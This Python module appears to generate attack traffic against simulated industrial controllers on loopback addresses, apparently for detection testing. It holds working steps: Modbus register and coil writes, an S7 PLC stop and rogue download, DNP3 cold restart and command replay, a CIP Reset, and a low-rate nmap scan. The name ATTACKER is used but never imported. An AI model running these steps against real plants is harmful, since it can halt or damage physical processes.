"""The attacks of the scenario captures: each runs in the thread of its actor's address (``in_role``).

Loaded by ``scenarios.py`` as ``scenario_attacks``, after ``scenario_plant`` and ``scenario_routine``.
"""
from __future__ import annotations

import asyncio
import subprocess
import time

import dnp3_generator  # type: ignore[import-not-found]
from scenario_plant import (  # type: ignore[import-not-found]
    ATTACKER_LINK, CIP_PLC, DNP3_PORT, ENIP_PORT, EWS, HMI, OUTSTATION, OUTSTATION_LINK, RECIPE_REGISTER, S7_BIT, S7_BYTE, S7_WORD, SWEEP_PLCS, attempt,
    dnp3_master, modbus_client, s7_client, s7_write_items,
)
from scenario_routine import _dnp3_attempt, hmi_bits  # type: ignore[import-not-found]

def attack_modbus_write() -> None:
    client = modbus_client(ATTACKER)
    attempt("attacker fc16", client.write_registers, 1, [4000, 4001, 4002, 4003])
    attempt("attacker fc5", client.write_coil, 1, True)
    client.close()


def attack_s7_stop_download() -> None:
    client = s7_client(0, 2)
    attempt("rogue plc_stop", client.plc_stop)
    attempt("rogue download DB1", client.download, bytearray(b"\x70\x70" + bytes(30)), 1)
    client.disconnect()


def attack_dnp3() -> None:
    asyncio.run(_attack_dnp3())


async def _attack_dnp3() -> None:
    from dnp3.core.enums import ControlCode, FunctionCode
    from dnp3.master import CommandBuilder

    runner = dnp3_master(ATTACKER_LINK)
    await runner.open()
    try:
        crob = CommandBuilder().add_crob(0, ControlCode.LATCH_ON)
        await _dnp3_attempt("attacker direct operate",
                            runner.request(runner.master.build_direct_operate(crob.build_direct_operate())))
        cold_restart = dnp3_generator.raw_request(runner.master, FunctionCode.COLD_RESTART)
        await _dnp3_attempt("attacker cold restart", runner.request(cold_restart))
    finally:
        await runner.close()


def attack_cip() -> None:
    from cpppo.server.enip import client

    # Forward Open (and Forward Close on leaving the block) first: cpppo drops the session on Reset.
    with client.implicit(host=CIP_PLC, port=ENIP_PORT, timeout=3, source_address=ATTACKER):
        time.sleep(0.5)
    with client.connector(host=CIP_PLC, port=ENIP_PORT, timeout=3, source_address=ATTACKER) as conn:
        conn.service_code(code=0x05, path="@1/1", data=[0])  # Reset, identity object class 1 instance 1
        for _ in range(2):
            attempt("attacker reset reply", next, conn, None)


def attack_identity_sweep() -> None:
    for plc in SWEEP_PLCS:
        client = attempt(f"sweep connect {plc}", modbus_client, ATTACKER, plc)
        if client is not None:
            attempt(f"sweep fc43/14 {plc}", client.read_device_information, read_code=1, object_id=0)
            client.close()
        time.sleep(0.2)




def attack_s7_known_writer_bytes() -> None:
    """A known writer's multi-item job: a byte over the bits it sets one by one, a bit, a word never written."""
    client = s7_client()
    attempt("hmi byte write", s7_write_items, client,
            [(S7_BYTE, 1, 4, b"\xff"), (S7_BIT, 1, 32, b"\x01"), (S7_WORD, 1, 8, b"\x12\x34")])
    client.disconnect()


def attack_s7_write_flood() -> None:
    """The HMI's usual two-bit write, 400 times as fast as the PLC answers."""
    client = s7_client()
    for i in range(400):
        attempt("hmi flood write", s7_write_items, client, hmi_bits(5 * i))
    client.disconnect()


def attack_modbus_fc16_new_values() -> None:
    client = modbus_client(HMI)
    attempt("hmi fc16 new values", client.write_registers, RECIPE_REGISTER, [7, 0, 250, 9])
    client.close()


# A handful of control-zone hosts the engineering workstation never spoke to (it works on 127.10.1.10 and .30):
# the DNP3 outstation, the CIP controller, the HMI, and three addresses of the cell where nothing listens.
QUIET_SCAN_TARGETS = ("127.10.1.40", "127.10.1.50", "127.10.2.20", "127.10.1.60", "127.10.1.61", "127.10.1.62")
QUIET_SCAN_PORTS = "102,502,20000,44818"


def attack_nmap_few_ot_hosts() -> None:
    """A real nmap SYN scan (Debian's nmap) of six control-zone hosts on four industrial ports: under the
    host and port thresholds of a scan, from a known station that never spoke to those hosts."""
    subprocess.run(["nmap", "-sS", "-Pn", "-n", "-e", "lo", "-S", EWS, "--max-rate", "100",
                    "-p", QUIET_SCAN_PORTS, *QUIET_SCAN_TARGETS], check=True, stdout=subprocess.DEVNULL)


def attack_modbus_unit_sweep() -> None:
    """The HMI reads one register from unit ids 2 to 9 of the Modbus PLC (it only ever used unit 1)."""
    client = modbus_client(HMI)
    for unit in range(2, 10):
        attempt(f"hmi unit {unit}", client.read_holding_registers, 1, count=1, device_id=unit)
    client.close()


def attack_dnp3_link_sweep_replay() -> None:
    asyncio.run(_dnp3_link_sweep_replay())


SWEPT_LINKS = (1, 2, 3, 4, 5, 6)


async def _dnp3_link_sweep_replay() -> None:
    """A class 0 poll to link addresses 1-6 (the outstation is 10 and ignores the others), then the HMI's
    select-before-operate of a latch-on CROB on index 0, replayed from the attacker's master."""
    from dnp3.core.enums import ControlCode
    from dnp3.master import CommandBuilder, LinkResetPolicy, Master, MasterConfig, MasterTcpRunner

    for link in SWEPT_LINKS:
        master = Master(config=MasterConfig(address=ATTACKER_LINK, outstation_address=link))
        runner = MasterTcpRunner(master=master, host=OUTSTATION, port=DNP3_PORT, response_timeout=0.4,
                                 link_reset=LinkResetPolicy.NEVER)
        await runner.open()
        try:
            await _dnp3_attempt(f"attacker poll link {link}", runner.integrity_poll())
        finally:
            await runner.close()
    runner = dnp3_master(ATTACKER_LINK)
    await runner.open()
    try:
        crob = CommandBuilder().add_crob(0, ControlCode.LATCH_ON)
        await _dnp3_attempt("replayed select", runner.request(runner.master.build_select(crob.build_select())))
        await _dnp3_attempt("replayed operate", runner.request(runner.master.build_operate(crob.build_operate())))
    finally:
        await runner.close()


SZL_LISTS = (0x0000, 0x0011, 0x001C, 0x0111, 0x0131, 0x0132, 0x0424, 0x0074)


def attack_s7_szl_enumeration() -> None:
    """The engineering workstation reads eight SZL lists, six it never read (snap7 answers some, refuses others)."""
    client = s7_client(0, 1)
    for szl in SZL_LISTS:
        attempt(f"ews szl 0x{szl:04x}", client.read_szl, szl, 0)
    client.disconnect()
